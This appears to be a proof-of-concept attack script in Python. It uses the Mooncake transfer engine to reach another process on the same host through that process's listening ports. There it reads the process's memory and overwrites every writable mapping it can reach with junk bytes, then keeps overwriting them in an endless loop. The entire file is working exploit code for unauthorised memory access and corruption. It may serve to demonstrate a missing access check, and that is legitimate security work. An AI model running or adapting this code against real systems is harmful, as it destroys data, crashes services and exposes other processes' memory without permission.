"""A stranger on the network: a bare transfer engine that reads and overwrites another process's
memory, wherever that process's Mooncake client lets it.

    python mooncake_stranger.py PID [PATTERN]

Tries every writable mapping of the process whose name begins like that at every port that it
listens at, overwrites those that it can, and prints one line of JSON: the names of those that it
could read, and that it could write to. Until it is killed, it then overwrites these again and
again.
"""

from __future__ import annotations

import json
import mmap
import os
import re
import sys
from collections.abc import Iterator
from typing import Any

import numpy as np
from mooncake.engine import TransferEngine

_PAGE = 4096
_SMALLEST = 128 << 10  # a refusal takes the engine 0.2 s, and there are many small mappings
_STEP = 1 << 20


def listening_ports(pid: int) -> list[int]:
    links = [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
    sockets = {os.readlink(link) for link in links if os.path.islink(link)}
    ports = set()
    for family in ("tcp", "tcp6"):
        with open(f"/proc/{pid}/net/{family}") as table:
            for row in list(table)[1:]:
                fields = row.split()
                if fields[3] == "0A" and f"socket:[{fields[9]}]" in sockets:
                    ports.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(ports)


def writable_mappings(pid: int) -> Iterator[tuple[str, int, int]]:
    """Yield name, start and end of what the process may write to."""
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            found = re.match(r"(\w+)-(\w+) rw\S+ \S+ \S+ \S+\s*(.*)", line)
            if found is not None:
                start, end = int(found[1], 16), int(found[2], 16)
                if end - start >= _SMALLEST:
                    yield found[3] or "anonymous", start, end


class Stranger:
    def __init__(self) -> None:
        self._engine: Any = TransferEngine()
        assert self._engine.initialize("127.0.0.1", "P2PHANDSHAKE", "tcp", "") == 0
        self._own = mmap.mmap(-1, _STEP)
        self._address = int(np.frombuffer(self._own, np.uint8).__array_interface__["data"][0])
        assert self._engine.register_memory(self._address, _STEP) == 0

    def write(self, port: int, address: int, size: int) -> bool:
        self._own[:size] = b"\xee" * size
        send = self._engine.transfer_sync_write
        return bool(send(f"127.0.0.1:{port}", self._address, address, size) == 0)

    def read(self, port: int, address: int, size: int) -> bool:
        fetch = self._engine.transfer_sync_read
        return bool(fetch(f"127.0.0.1:{port}", self._address, address, size) == 0)


def main() -> None:
    pid, pattern = int(sys.argv[1]), "".join(sys.argv[2:])
    stranger = Stranger()
    can_read, can_write, found = set(), set(), []
    for port in listening_ports(pid):
        for name, start, end in writable_mappings(pid):
            if not re.match(pattern, name):
                continue
            if stranger.read(port, start, _PAGE):
                can_read.add(name)
            if stranger.write(port, start, _PAGE):
                can_write.add(name)
                steps = ((a, min(_STEP, end - a)) for a in range(start, end, _STEP))
                found += [(port, *step) for step in steps if stranger.write(port, *step)]
    print(json.dumps({"read": sorted(can_read), "written": sorted(can_write)}), flush=True)
    while True:
        for place in found:
            stranger.write(*place)


if __name__ == "__main__":
    main()
